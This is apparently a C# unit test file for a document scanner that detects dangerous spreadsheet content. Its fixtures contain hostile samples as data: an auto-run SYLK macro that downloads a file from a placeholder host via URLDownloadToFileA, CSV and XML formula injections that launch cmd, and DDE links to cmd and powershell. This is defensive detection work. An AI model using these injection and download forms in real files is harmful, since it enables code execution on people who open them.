using System.Text;
using Postvakt.Documents.Kinds;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Excel;

public sealed class TextFormTests
{
    private static Effect Run(InspectedFile file) => Assert.Single(file.Effects, e => e.Kind == EffectKind.Execute);

    [Fact]
    public void Sylk_OfAMacroSheet_IsFollowed()
    {
        var file = Look.At("list.slk", "ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;K0;ECALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://a.example/x\"&R[2]C,\"C:\\Datop\\a.ocx\",0,0)\r\nC;X1;Y102;EHALT()\r\nC;Y103;K\".dat\"\r\nE\r\n");
        Assert.Equal(("https://a.example/x.dat", @"C:\Datop\a.ocx"), file.Effects.Where(e => e.Kind == EffectKind.Download).Select(e => (e.Target, e.Other)).Single());
        Assert.Equal(["Auto_open"], Assert.Single(file.Modules).EntryPoints);
    }

    [Fact]
    public void Sylk_WithADoubledSemicolon_KeepsIt()
    {
        var file = Look.At("list.slk", "ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"echo a;;b\")\nC;Y2;EHALT()\nE\n");
        Assert.Equal("echo a;b", Run(file).Target);
    }

    [Theory]
    [InlineData("=cmd|'/C echo 1'!A0")]
    [InlineData("+cmd|'/C echo 1'!A0")]
    [InlineData("\"=cmd|'/C echo 1'!A0\"")]
    [InlineData("@SUM(1+1)*cmd|'/C echo 1'!A0")]
    [InlineData("-2+3+cmd|'/C echo 1'!A0")]
    public void Table_WithAFormulaOfAProgram_StartsIt(string field)
    {
        var file = Look.At("staff.csv", $"name,sum\nAnna,5\nBo,{field}\n");
        Assert.Equal("cmd /C echo 1", Run(file).Target);
        Assert.Equal("B3", Run(file).Where);
    }

    [Theory]
    [InlineData("name,sum\nAnna,-5\n")]
    [InlineData("a|b,c\n+46 8 123 (home)|x,=SUM(A1:A2)\n")]
    [InlineData("note\n- see page 3 (top) | wow!\n")]
    public void Table_WithoutSuchFormula_HasNoFinding(string table) => Assert.Empty(Look.At("staff.csv", table).Findings);

    [Theory]
    [InlineData("=SUM(1,cmd|'/c a'!A0)", "cmd /c a")]
    [InlineData("=cmd|'/c a,b;c'!A0", "cmd /c a,b;c")]
    [InlineData("x,=cmd|'/c a'!A0,=SUM(1,2)", "cmd /c a")]
    public void Separator_InsideAFormula_BelongsToIt(string line, string command) =>
        Assert.Equal(command, string.Join("; ", Look.At("staff.csv", line + "\n").Effects.Select(e => e.Target)));

    [Fact]
    public void Table_WithAHyperlink_GivesIt() =>
        Assert.Equal(["https://a.example/q?x=1"], Look.At("staff.csv", "x\n\"=HYPERLINK(\"\"https://a.example/q?x=1\"\",\"\"more\"\")\"\n").Links.Select(l => l.Url));

    [Fact]
    public void Query_OfTheWeb_FetchesItsAddress()
    {
        var file = Look.At("report.iqy", "WEB\r\n1\r\nhttps://a.example/list.dat\r\n\r\nSelection=EntirePage\r\n");
        Assert.Equal("https://a.example/list.dat", Assert.Single(file.Effects).Target);
        Assert.True(file.Has(FindingKinds.QueryFile));
    }

    [Fact]
    public void XmlSpreadsheet_WithAFormulaOfAProgram_StartsIt()
    {
        const string book = """
            <?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>
            <Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="S"><Table>
            <Row ss:Index="3"><Cell ss:HRef="https://a.example/"><Data ss:Type="String">Hello</Data></Cell><Cell ss:Index="4" ss:Formula="=cmd|'/c echo 1'!A0"><Data ss:Type="Number">0</Data></Cell></Row>
            </Table></Worksheet></Workbook>
            """;
        var file = Look.At("book.xml", book);
        Assert.Equal(FileKind.ExcelXml, file.Kind);
        Assert.Equal(("cmd /c echo 1", "D3"), (Run(file).Target, Run(file).Where));
        Assert.Equal(["https://a.example/"], file.Links.Select(l => l.Url));
    }

    [Fact]
    public void Workbook_LinkedWithAProgram_StartsIt()
    {
        var plan = new BookPlan();
        plan.Sheet("S").Put("A1", "1");
        plan.Programs.Add(("cmd", "/c echo 1"));
        var file = Look.At("book.xls", Biff8Writer.File(plan));
        Assert.Equal("cmd /c echo 1", Run(file).Target);
        Assert.True(file.Has(FindingKinds.Dde));
    }

    [Fact]
    public void Workbook_LinkedWithAPriceService_IsNoAlarm()
    {
        var plan = new BookPlan();
        plan.Sheet("S").Put("A1", "1");
        plan.Programs.Add(("REUTER", "IDN"));
        var file = Look.At("book.xls", Biff8Writer.File(plan));
        Assert.Empty(file.Effects);
        Assert.Equal([FindingKinds.DdeLink], file.Findings.Select(f => f.Kind));
    }

    [Fact]
    public void Package_LinkedWithAProgram_StartsIt()
    {
        var plan = new BookPlan();
        plan.Sheet("S").Put("A1", "1");
        var package = new WorkbookPackage(plan, binary: false);
        package.More.Add(("externalLinks/e1.xml", "externalLink", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"powershell\" ddeTopic=\"-c exit\"/></externalLink>"));
        Assert.Equal("powershell -c exit", Run(Look.At("book.xlsm", package.Build())).Target);
    }

    [Fact]
    public void Package_WithAWebConnection_NamesTheAddress()
    {
        var plan = new BookPlan();
        plan.Sheet("S").Put("A1", "1");
        var package = new WorkbookPackage(plan, binary: false);
        package.More.Add(("connections.xml", "connections", "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><connection id=\"1\"><webPr url=\"https://a.example/t\"/></connection></connections>"));
        Assert.True(Look.At("book.xlsm", package.Build()).Has(FindingKinds.WebQuery));
    }

    [Fact]
    public void Sheet_WithAFormulaOfAProgramInItsText_StartsIt()
    {
        var plan = new BookPlan();
        plan.Sheet("S").Put("C2", "=cmd|'/c echo 1'!A0");
        Assert.Equal("S C2", Run(Look.At("book.xlsm", WorkbookPackage.Xml(plan))).Where);
    }

    [Fact]
    public void Table_WithAFormulaThatNeverEnds_IsReadBehindIt() =>
        Assert.Equal("cmd /C echo 1", Run(Look.Long("staff.csv", Encoding.ASCII.GetBytes($"name,sum\nAnna,5\n=({new string(',', 20_000)}=cmd|'/C echo 1'!A0\n"))).Target);

    [Fact]
    public void Table_OfOneLongLine_IsLookedAtOnTheWay() =>
        Assert.Contains(Look.Until(50, "staff.csv", Encoding.ASCII.GetBytes($"name,sum\nAnna,5\n=({new string(',', 300_000)}")).Unread(), t => t.StartsWith("not done", StringComparison.Ordinal));
}
